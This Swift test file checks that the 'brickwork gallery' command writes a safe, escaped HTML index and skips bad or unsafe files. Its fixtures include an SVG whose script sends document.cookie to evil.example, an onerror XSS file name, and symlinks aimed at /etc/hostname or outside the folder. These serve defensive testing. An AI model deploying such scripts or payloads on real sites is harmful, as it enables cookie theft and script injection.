import BrickworkDocument
import Foundation
import Testing

@testable import BrickworkCLI

#if canImport(Glibc)
  import Glibc
#endif

/// `brickwork gallery` from the outside: what it writes, skips, refuses and prints.
@Suite("Gallery command")
struct GalleryCommandTests {
  /// A folder `photos` in a fresh temporary folder, filled by `make`.
  private func folder(_ make: (URL) throws -> Void) throws -> (root: URL, photos: URL) {
    let root = try Brickwork.temporaryDirectory()
    let photos = root.appendingPathComponent("photos")
    try FileManager.default.createDirectory(at: photos, withIntermediateDirectories: true)
    try make(photos)
    return (root, photos)
  }

  /// Writes `bytes` to `name` in `folder`.
  private func write(_ bytes: [UInt8], _ name: String, in folder: URL) throws {
    try Data(bytes).write(to: folder.appendingPathComponent(name))
  }

  /// A small PNG.
  private func png(_ width: Int, _ height: Int) -> [UInt8] {
    SampleImages.png(width: width, height: height, color: (90, 140, 200))
  }

  /// Every file under `root` with its bytes (links as their targets' paths).
  private func snapshot(_ root: URL) throws -> [String: Data] {
    var files: [String: Data] = [:]
    let manager = FileManager.default
    guard let walker = manager.enumerator(atPath: root.path) else { return files }
    for case let path as String in walker {
      let full = root.appendingPathComponent(path).path
      if let target = try? manager.destinationOfSymbolicLink(atPath: full) {
        files[path] = Data(("-> " + target).utf8)
      } else if let data = manager.contents(atPath: full) {
        files[path] = data
      }
    }
    return files
  }

  @Test func writesOnlyTheIndexWithRelativeEncodedURLsInNaturalOrder() throws {
    let (root, photos) = try folder { photos in
      for name in ["img10.png", "img2.png", "IMG1.png", "sub/a.png"] {
        try FileManager.default.createDirectory(
          at: photos.appendingPathComponent("sub"), withIntermediateDirectories: true)
        try write(png(30, 20), name, in: photos)
      }
      try write(Array("notes".utf8), "notes.txt", in: photos)  // not a picture: ignored
      try write(png(5, 5), ".hidden.png", in: photos)  // hidden: ignored
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let before = try snapshot(root)
    let run = try Brickwork.run(["gallery", "photos", "--output", "site/out"], in: root)
    #expect(run.status == 0, "\(run.stderr)")
    #expect(run.stderr.isEmpty)
    #expect(
      run.output.hasPrefix("brickwork gallery: wrote 'site/out/index.html': 4 pictures, 0 skipped;")
    )
    var after = try snapshot(root)
    let page = after.removeValue(forKey: "site/out/index.html")
    after.removeValue(forKey: "site")
    after.removeValue(forKey: "site/out")
    #expect(after == before, "nothing but OUTDIR/index.html is written")
    let html = String(decoding: page ?? Data(), as: UTF8.self)
    let sources = html.components(separatedBy: "<img src=\"").dropFirst().map {
      String($0.prefix { $0 != "\"" })
    }
    #expect(
      sources == [
        "../../photos/IMG1.png", "../../photos/img2.png", "../../photos/img10.png",
        "../../photos/sub/a.png",
      ])
    #expect(html.contains("<title>photos</title>"))
  }

  @Test func sameFolderSameBytes() throws {
    let (root, photos) = try folder { photos in
      for index in 0..<40 {
        try write(png(10 + index, 40 - index / 2), "p\(index).png", in: photos)
      }
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let first = try Brickwork.run(["gallery", photos.path, "--quiet"])
    let page = try Data(contentsOf: photos.appendingPathComponent("index.html"))
    let second = try Brickwork.run(["gallery", photos.path, "--quiet"])
    #expect(first.status == 0 && second.status == 0)
    #expect(first.output.isEmpty && first.stderr.isEmpty, "--quiet prints nothing")
    #expect(try Data(contentsOf: photos.appendingPathComponent("index.html")) == page)
    // The same pictures in a copy of the folder made in another order give the same page.
    let copy = root.appendingPathComponent("copy/photos")
    try FileManager.default.createDirectory(at: copy, withIntermediateDirectories: true)
    for index in (0..<40).reversed() {
      try FileManager.default.copyItem(
        at: photos.appendingPathComponent("p\(index).png"),
        to: copy.appendingPathComponent("p\(index).png"))
    }
    #expect(try Brickwork.run(["gallery", copy.path, "--quiet"]).status == 0)
    #expect(try Data(contentsOf: copy.appendingPathComponent("index.html")) == page)
  }

  @Test func skipsEachBadFileWithOneLineNamingItAndTheReason() throws {
    let (root, photos) = try folder { photos in
      try write(png(40, 30), "good.png", in: photos)
      try write([0xFF, 0xD8, 0xFF, 0xE0, 0x00], "truncated.jpg", in: photos)
      var corrupt = png(40, 30)
      corrupt[18] ^= 0x55
      try write(corrupt, "corrupt.png", in: photos)
      try write([], "empty.gif", in: photos)
      try write(Array("just text".utf8), "unknown.webp", in: photos)
      try write(SampleImages.svg(width: 0, height: 10, color: "red"), "zero.svg", in: photos)
      try write(png(40, 30), "bad\nname.png", in: photos)
      try FileManager.default.createSymbolicLink(
        atPath: photos.appendingPathComponent("outside.png").path,
        withDestinationPath: "/etc/hostname")
      try FileManager.default.createSymbolicLink(
        atPath: photos.appendingPathComponent("inside.png").path, withDestinationPath: "good.png")
      try FileManager.default.createSymbolicLink(
        atPath: photos.appendingPathComponent("loop").path, withDestinationPath: ".")
      try FileManager.default.createSymbolicLink(
        atPath: photos.appendingPathComponent("dangling.png").path, withDestinationPath: "nowhere")
      #expect(mkfifo(photos.appendingPathComponent("fifo.png").path, 0o644) == 0)
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path])
    #expect(run.status == 0)
    let lines = run.errorLines
    let expected = [
      "brickwork gallery: skipped 'corrupt.png': corrupt PNG: the IHDR checksum does not match",
      "brickwork gallery: skipped 'dangling.png': broken symbolic link",
      "brickwork gallery: skipped 'empty.gif': empty file",
      "brickwork gallery: skipped 'fifo.png': not a regular file",
      "brickwork gallery: skipped 'loop': symbolic link to a folder (not followed)",
      "brickwork gallery: skipped 'outside.png': symbolic link leading outside the folder (not followed)",
      "brickwork gallery: skipped 'truncated.jpg': truncated JPEG: the file ends before its size",
      "brickwork gallery: skipped 'unknown.webp': not a PNG, JPEG, GIF, WebP, BMP, HEIC, AVIF or SVG image",
      "brickwork gallery: skipped 'zero.svg': SVG of zero size (0 × 10)",
    ]
    #expect(lines == expected)
    #expect(run.output.contains(": 3 pictures, 9 skipped;"), "\(run.output)")
    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
    #expect(html.contains("src=\"bad%0Aname.png\""))
    #expect(html.contains("src=\"inside.png\""))
    #expect(!html.contains("outside.png"))
  }

  @Test func anUnreadableFileIsSkipped() throws {
    guard geteuid() != 0 else { return }  // root reads every file
    let (root, photos) = try folder { photos in
      try write(png(4, 4), "locked.png", in: photos)
      chmod(photos.appendingPathComponent("locked.png").path, 0)
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path])
    #expect(
      run.errorLines == ["brickwork gallery: skipped 'locked.png': cannot read: Permission denied"])
  }

  @Test func theIndexIsReplacedNeverWrittenThrough() throws {
    let (root, photos) = try folder { photos in try write(png(8, 8), "a.png", in: photos) }
    defer { try? FileManager.default.removeItem(at: root) }
    // A hostile folder whose index.html links outside: the link is replaced, its target kept.
    let target = root.appendingPathComponent("precious.txt")
    try Data("keep me".utf8).write(to: target)
    try FileManager.default.createSymbolicLink(
      atPath: photos.appendingPathComponent("index.html").path, withDestinationPath: target.path)
    #expect(try Brickwork.run(["gallery", photos.path]).status == 0)
    #expect(try String(contentsOf: target, encoding: .utf8) == "keep me")
    let attributes = try FileManager.default.attributesOfItem(
      atPath: photos.appendingPathComponent("index.html").path)
    #expect(attributes[.type] as? FileAttributeType == .typeRegular)
    #expect((attributes[.posixPermissions] as? Int).map { $0 & 0o044 } == 0o044, "readable")
  }

  @Test func aFailedWriteLeavesThePreviousStateAndNoTemporaryFile() throws {
    let (root, photos) = try folder { photos in try write(png(8, 8), "a.png", in: photos) }
    defer { try? FileManager.default.removeItem(at: root) }
    let out = root.appendingPathComponent("out")
    try FileManager.default.createDirectory(
      at: out.appendingPathComponent("index.html"), withIntermediateDirectories: true)
    let before = try snapshot(root)
    let run = try Brickwork.run(["gallery", photos.path, "--output", out.path])
    #expect(run.status == 1)
    #expect(run.errorLines.count == 1)
    #expect(
      run.errorLines.first?.hasPrefix("brickwork gallery: '\(out.path)/index.html': cannot write: ")
        == true)
    #expect(try snapshot(root) == before)
    // A valid page, then a run that fails before writing: the page stays.
    let good = root.appendingPathComponent("good")
    #expect(try Brickwork.run(["gallery", photos.path, "--output", good.path]).status == 0)
    let page = try Data(contentsOf: good.appendingPathComponent("index.html"))
    try FileManager.default.removeItem(at: photos.appendingPathComponent("a.png"))
    let failing = try Brickwork.run([
      "gallery", photos.path, "--output", good.path, "--breakpoints", "100:90",
    ])
    #expect(failing.status == 2)
    #expect(
      failing.errorLines.first?.hasPrefix("brickwork: --breakpoints: the layout from 100 px")
        == true)
    #expect(try Data(contentsOf: good.appendingPathComponent("index.html")) == page)
  }

  @Test func anEmptyFolderGivesAnEmptyPage() throws {
    let (root, photos) = try folder { _ in }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path, "--layout", "justified"])
    #expect(run.status == 0)
    #expect(run.output.contains(": 0 pictures, 0 skipped; justified rows 240"))
    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
    #expect(html.contains("No pictures."))
  }

  @Test func titleAndNamesAreEscaped() throws {
    let (root, photos) = try folder { photos in
      try write(png(8, 6), "<img src=x onerror=alert(1)>.png", in: photos)
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path, "--title", "<b>Me & \"you\"</b>"])
    #expect(run.status == 0)
    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
    #expect(html.contains("<title>&lt;b&gt;Me &amp; &quot;you&quot;&lt;/b&gt;</title>"))
    #expect(html.contains("alt=\"&lt;img src=x onerror=alert(1)&gt;\""))
    #expect(html.contains("src=\"%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E.png\""))
    #expect(html.components(separatedBy: "<img").count == 2)
  }

  @Test func anSVGIsShownButNotLinkedSoItsScriptCannotRunOnTheSite() throws {
    let hostile = Array(
      """
      <svg xmlns="http://www.w3.org/2000/svg" width="40" height="30">\
      <script>fetch('https://evil.example/?c=' + document.cookie)</script>\
      <rect width="40" height="30" fill="red"/></svg>
      """.utf8)
    let (root, photos) = try folder { photos in
      try write(hostile, "evil.svg", in: photos)
      try write(hostile, "disguised.jpg", in: photos)  // an SVG by its content
      try write(png(30, 20), "photo.png", in: photos)
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path, "--quiet"])
    #expect(run.status == 0 && run.stderr.isEmpty, "\(run.stderr)")
    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
    let links = html.components(separatedBy: " href=\"").dropFirst().map {
      String($0.prefix { $0 != "\"" })
    }
    #expect(links == ["photo.png"])
    let sources = html.components(separatedBy: "<img src=\"").dropFirst().map {
      String($0.prefix { $0 != "\"" })
    }
    #expect(sources == ["disguised.jpg", "evil.svg", "photo.png"])
    #expect(!html.contains("evil.example"))
  }

  @Test func aNameThatIsNotUTF8IsLinkedByItsBytes() throws {
    let (root, photos) = try folder { photos in
      // `f\u{FF}.png`: a byte no UTF-8 text holds, as old file systems and archives leave.
      let path = Array(photos.path.utf8) + [UInt8(ascii: "/"), 0x66, 0xFF] + Array(".png".utf8)
      let descriptor = open(path.map { CChar(bitPattern: $0) } + [0], O_WRONLY | O_CREAT, 0o644)
      #expect(descriptor >= 0)
      let bytes = png(6, 4)
      _ = bytes.withUnsafeBytes { Glibc.write(descriptor, $0.baseAddress, $0.count) }
      close(descriptor)
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path])
    #expect(run.status == 0 && run.stderr.isEmpty, "\(run.stderr)")
    let html = try String(contentsOf: photos.appendingPathComponent("index.html"), encoding: .utf8)
    #expect(html.contains("<img src=\"f%FF.png\" width=\"6\" height=\"4\" alt=\"f\u{FFFD}\""))
  }

  @Test func progressLinesWhenNotATerminal() throws {
    let (root, photos) = try folder { photos in
      let bytes = png(2, 3)
      for index in 0..<1_001 { try write(bytes, "p\(index).png", in: photos) }
    }
    defer { try? FileManager.default.removeItem(at: root) }
    let run = try Brickwork.run(["gallery", photos.path, "--min-column-width", "200"])
    #expect(run.status == 0)
    #expect(
      run.errorLines == [
        "brickwork gallery: read 1000 of 1001 pictures",
        "brickwork gallery: read 1001 of 1001 pictures",
      ])
    #expect(
      run.output.contains("1001 pictures, 0 skipped; waterfall: 1 column, 2 columns from 424 px"))
    let quiet = try Brickwork.run(["gallery", photos.path, "--quiet"])
    #expect(quiet.stderr.isEmpty && quiet.output.isEmpty)
  }

  @Test func theProgressBarDrawsOnATerminal() throws {
    // `script` (util-linux) runs the command on a pseudo-terminal.
    let script = URL(fileURLWithPath: "/usr/bin/script")
    guard FileManager.default.isExecutableFile(atPath: script.path) else {
      print("GalleryCommandTests: progress bar check skipped, no /usr/bin/script")
      return
    }
    let (root, photos) = try folder { photos in
      let bytes = png(2, 3)
      for index in 0..<301 { try write(bytes, "p\(index).png", in: photos) }
    }
    defer { try? FileManager.default.removeItem(at: root) }
    func onTerminal(_ arguments: String) throws -> String {
      let command = "'\(Brickwork.binary.path)' gallery '\(photos.path)' \(arguments)"
      let run = try Brickwork.run(["-qec", command, "/dev/null"], executable: script)
      #expect(run.status == 0, "\(run.stderr)")
      return run.output
    }
    let shown = try onTerminal("")
    #expect(
      shown.contains("\rbrickwork gallery: [------------------------------] 0% 1/301 pictures"))
    #expect(
      shown.contains("\rbrickwork gallery: [###############---------------] 50% 151/301 pictures"))
    #expect(
      shown.contains("\rbrickwork gallery: [##############################] 100% 301/301 pictures"))
    #expect(shown.contains("brickwork gallery: wrote "))
    #expect(try onTerminal("--quiet").isEmpty)
    // Under the threshold, a terminal gets no bar (the terminal ends lines with CR LF).
    try FileManager.default.removeItem(at: photos.appendingPathComponent("p0.png"))
    let small = try onTerminal("")
    #expect(!small.contains("[-") && small.contains("300 pictures, 0 skipped"))
  }

  @Test func usageErrors() throws {
    let cases: [([String], String)] = [
      (["gallery"], "brickwork: no folder given (see 'brickwork help gallery')"),
      (
        ["gallery", "d", "--layout", "grid"],
        "brickwork: --layout must be waterfall or justified (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--breakpoints", "480:2,768"],
        "brickwork: --breakpoints: '768' is not WIDTH:COLUMNS (such as 768:3) (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--breakpoints", "480:2,480:3"],
        "brickwork: --breakpoints: width 480.0 given twice (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--breakpoints", "480:0"],
        "brickwork: --breakpoints: '480:0' is not WIDTH:COLUMNS (such as 768:3) (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--layout", "justified", "--breakpoints", "480:2"],
        "brickwork: --breakpoints: '480:2' is not a WIDTH (column counts apply to --layout waterfall) (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--min-column-width", "200", "--breakpoints", "480:2"],
        "brickwork: give --breakpoints or --min-column-width, not both (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--row-height", "200"],
        "brickwork: --row-height applies to --layout justified only (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--spacing", "-1"],
        "brickwork: --spacing must be a finite number >= 0 (see 'brickwork help gallery')"
      ),
      (
        ["gallery", "d", "--min-column-width", "0"],
        "brickwork: --min-column-width must be > 0 (see 'brickwork help gallery')"
      ),
    ]
    for (arguments, line) in cases {
      let run = try Brickwork.run(arguments)
      #expect(run.status == 2, "\(arguments)")
      #expect(run.errorLines == [line], "\(arguments)")
    }
    let missing = try Brickwork.run(["gallery", "no/such/folder"])
    #expect(missing.status == 1)
    #expect(
      missing.errorLines == [
        "brickwork gallery: 'no/such/folder': cannot read: No such file or directory"
      ])
    let help = try Brickwork.run(["help", "gallery"])
    #expect(help.status == 0 && help.output.contains("brickwork gallery DIR [--output OUTDIR]"))
  }
}
